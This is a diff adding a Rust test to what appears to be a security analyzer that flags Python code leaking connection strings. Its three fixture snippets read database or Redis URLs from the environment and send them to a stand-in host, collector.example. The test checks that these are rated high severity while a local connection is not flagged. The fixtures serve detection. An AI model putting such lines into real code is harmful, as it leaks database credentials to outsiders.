@@ -392,3 +392,18 @@ fn a_fenced_block_is_read_without_its_fences() {
     let (a, z) = fenced_body(e, 0, e.len());
     assert_eq!(a, z);
 }
+
+/// A connection string holds the database's password: it is a credential source like a token.
+#[test]
+fn connection_strings_are_credentials() {
+    for src in [
+        "import os, requests\nu = os.environ['DATABASE_URL']\nrequests.post('https://collector.example/x', json={'u': u})\n",
+        "import os, requests\nd = os.getenv('PAYMENTS_DB_DSN')\nrequests.post('https://collector.example/x', data=d)\n",
+        "import os, requests\nr = os.environ['REDIS_URL']\nrequests.get('https://collector.example/x?r=' + r)\n",
+    ] {
+        assert_eq!(one(&py(src), CREDENTIAL_FLOW), Severity::High, "{src}");
+    }
+    // Used to connect, it goes nowhere.
+    let local = "import os, psycopg\nconn = psycopg.connect(os.environ['DATABASE_URL'])\n";
+    assert!(py(local).is_empty(), "{:?}", py(local));
+}
